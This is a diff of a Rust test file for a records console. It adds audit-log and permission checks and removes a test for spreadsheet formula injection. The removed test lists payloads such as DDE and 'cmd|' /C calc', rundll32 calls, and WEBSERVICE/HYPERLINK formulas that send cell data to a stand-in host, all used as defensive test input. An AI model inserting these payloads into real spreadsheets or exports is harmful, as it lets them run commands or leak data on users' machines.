@@ -1,14 +1,13 @@
 //! The desk: queues page by page with every filter and order, what is in hand, saved views, search,
 //! the page before many, lists as files and acts by a sheet.
 
+mod formulas;
+
 use std::collections::BTreeSet;
 
-use domain::{record::RecordId, roster::Cell};
+use domain::record::RecordId;
 use jiff::{ToSpan, civil::Date};
-use kecha::{
-    papers::sheet,
-    registry::{Command, Due, Only, Queue, Sort},
-};
+use kecha::registry::{Command, Due, Only, Queue, Sort};
 
 use crate::{
     house::{House, on_both},
@@ -229,6 +228,13 @@ fn what_is_in_hand_ends_with_its_state(house: &House) {
     );
 }
 
+/// Who read a case, and where.
+fn readers(house: &House, case: RecordId) -> Vec<(String, String)> {
+    let lines = house.registry().readings_of(case, 100).expect("readings");
+    let told = lines.into_iter().map(|line| (line.login, line.purpose));
+    told.collect()
+}
+
 fn a_search_finds_the_own_offices_only(house: &House) {
     let made = filled(house, 9, 5);
     let registry = house.registry();
@@ -268,7 +274,7 @@ fn a_search_finds_the_own_offices_only(house: &House) {
 }
 
 fn pages_do_what_they_say(house: &House) {
-    filled(house, 12, 5);
+    let made = filled(house, 12, 5);
     let mut desk = house.browser("desk");
     let home = desk.get("/console").text;
     assert!(home.contains("/console/cases?state=own"), "{home}");
@@ -309,6 +315,10 @@ fn pages_do_what_they_say(house: &House) {
         "{}",
         sent.text
     );
+    for (person, case) in &made {
+        let read = readers(house, *case).contains(&("desk".to_owned(), "search".to_owned()));
+        assert_eq!(read, person.name == "王小明", "{case}");
+    }
     assert_eq!(desk.post("/console/search", &[("sought", " ")]).status, 200);
 }
 
@@ -343,6 +353,10 @@ fn a_list_says_what_its_page_says(house: &House) {
     let page = desk.get("/console/cases?state=all&item=2.1").text;
     assert_eq!(rows.len() - 1, page.matches("name=\"case\"").count());
     assert!(made.iter().any(|(p, _)| file.text.contains(&p.number)));
+    for (person, case) in &made {
+        let read = readers(house, *case).contains(&("desk".to_owned(), "export".to_owned()));
+        assert_eq!(read, file.text.contains(&person.number), "{case}");
+    }
     for (login, path) in [
         ("clerk", "/console/sessions/export"),
         ("desk", "/console/inquiries/export"),
@@ -404,6 +418,19 @@ fn a_sheet_does_it_and_comes_back(house: &House) {
         panic!("it was returned");
     };
     assert_eq!(missing, ["体检证明", "照片"]);
+    // Cards are handed out in runs, by whoever has just signed in again.
+    let mut maker = house.browser("maker");
+    let form = maker.get("/console/cases/sheet").text;
+    assert!(
+        form.contains("\"make\"") && !form.contains("\"issue\""),
+        "{form}"
+    );
+    let refused = maker.upload_with(
+        "/console/cases/sheet",
+        &[("command", "issue")],
+        text.as_bytes(),
+    );
+    assert_eq!(refused.status, 422);
 }
 
 on_both! {
@@ -433,86 +460,5 @@ on_both! {
 
     fn sheets(house: &House) {
         a_sheet_does_it_and_comes_back(house);
-    }
-}
-
-/// Each of some hundred texts that spreadsheet programs were tricked with comes back as that text:
-/// from a workbook as it was, from a csv with a mark before it that keeps it from being a formula.
-#[test]
-fn no_text_becomes_a_formula() {
-    let heads = [
-        "=",
-        "+",
-        "-",
-        "@",
-        "＝",
-        "＋",
-        "－",
-        "＠",
-        "\t=",
-        "\r=",
-        "\n=",
-        " =",
-        "\u{3000}=",
-        "=-",
-        "+-",
-        "@=",
-    ];
-    let tails = [
-        "cmd|' /C calc'!A0",
-        "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
-        "WEBSERVICE(\"http://x.example\")",
-        "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
-        "DDE(\"cmd\",\"/C calc\",\"x\")",
-        "SUM(1+1)*cmd|' /C calc'!A0",
-        "1+1",
-        "A1",
-        "rundll32|'URL.dll,OpenURL calc.exe'!A",
-        "INDIRECT(\"A1\")",
-        "\"a\",=1",
-        "1;=1",
-        "|x",
-        "%0A=1",
-        "<b>&amp;",
-        "'=1",
-        "10%",
-        "张三",
-        "\u{200B}1",
-        "EXEC(\"calc\")",
-    ];
-    let texts: Vec<String> = heads
-        .iter()
-        .flat_map(|head| tails.iter().map(move |tail| format!("{head}{tail}")))
-        .collect();
-    assert!(texts.len() >= 300);
-    let mut book = sheet::ListWriter::new(Vec::new(), sheet::Format::Xlsx).expect("begun");
-    let mut text = sheet::ListWriter::new(Vec::new(), sheet::Format::Csv).expect("begun");
-    for one in &texts {
-        let cells = [Cell::Text(one.clone()), Cell::Number(1.0)];
-        book.row(&cells).expect("a row");
-        text.row(&cells).expect("a row");
-    }
-    let book = book.finish().expect("a file");
-    let mut read = Vec::new();
-    sheet::rows(std::io::Cursor::new(&book), &mut |_, cells| {
-        read.push(cells[0].clone());
-        Ok(true)
-    })
-    .expect("a sheet");
-    let wanted: Vec<Cell> = texts.iter().cloned().map(Cell::Text).collect();
-    assert_eq!(read, wanted);
-    let text = text.finish().expect("a file");
-    let mut reader = csv::ReaderBuilder::new()
-        .has_headers(false)
-        .from_reader(&text[3..]);
-    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("a csv");
-    assert_eq!(rows.len(), texts.len());
-    for (row, text) in rows.iter().zip(&texts) {
-        let cell = &row[0];
-        let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
-        let harmless = first.is_none_or(|c| !"=+-@＝＋－＠\t\r\n".contains(c));
-        let is_number = cell.trim().parse::<f64>().is_ok();
-        assert!(harmless || is_number, "{cell:?}");
-        assert!(cell.ends_with(text.as_str()), "{cell:?} {text:?}");
     }
 }
